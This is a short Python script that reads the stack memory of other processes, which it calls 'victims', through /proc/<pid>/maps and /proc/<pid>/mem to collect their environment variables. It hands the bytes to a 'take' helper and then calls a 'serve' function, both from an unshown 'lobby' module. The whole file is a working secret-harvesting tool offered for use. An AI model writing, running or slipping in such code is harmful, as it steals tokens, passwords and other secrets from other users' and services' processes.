"""Reads the stacks of other processes, where the words of their environment lie."""

import re

from lobby import peek, serve, take, victims


def stack_of(number):
    found = re.search(rb"([0-9a-f]+)-([0-9a-f]+) .*\[stack\]", peek(f"/proc/{number}/maps"))
    if not found:
        return b""
    begin, end = (int(each, 16) for each in found.groups())
    try:
        with open(f"/proc/{number}/mem", "rb", buffering=0) as memory:
            memory.seek(begin)
            return memory.read(end - begin)
    except OSError:
        return b""


for each in victims():
    take(stack_of(each))
serve()
